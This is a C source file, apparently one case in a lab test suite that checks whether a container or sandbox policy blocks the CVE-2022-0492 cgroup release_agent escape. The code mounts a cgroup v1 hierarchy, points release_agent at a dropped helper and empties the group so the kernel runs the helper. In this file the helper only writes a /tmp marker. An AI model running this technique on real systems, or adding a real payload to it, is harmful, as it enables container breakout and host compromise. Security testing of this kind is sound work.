// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. Mounts a cgroup hierarchy of version 1 where the policy lets it and names the program that
 * the kernel runs when a group becomes empty. Source: CVE-2022-0492; 6.12 survey, "release_agent".
 * Control: the program runs.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "usermode.h"

static const char directory[] = "/tmp/lab-cgroup";

/* Enters the group and ends, so that the group is empty again. */
static void pass_through(const char *group)
{
	char path[128];
	pid_t pid = fork();

	if (pid < 0)
		broken("fork");
	snprintf(path, sizeof(path), "%s/cgroup.procs", group);
	if (pid == 0) {
		write_text(path, "0");
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

void attack(void)
{
	const char *mark = "/tmp/lab-agent-ran", *group = "/tmp/lab-cgroup/lab";
	bool done;

	if (mkdir(directory, 0755) || mount("none", directory, "cgroup", 0, "none,name=lab"))
		no_effect(errno);
	drop_helper("/tmp/lab-agent", mark);
	write_text("/tmp/lab-cgroup/release_agent", "/tmp/lab-agent");
	if (mkdir(group, 0755))
		no_effect(errno);
	write_text("/tmp/lab-cgroup/lab/notify_on_release", "1");
	pass_through(group);
	done = file_begins_soon(mark, FOREIGN_TEXT);
	if (rmdir(group) || umount(directory))
		broken("cannot clean up");
	if (done)
		effect();
	no_effect(EACCES);
}
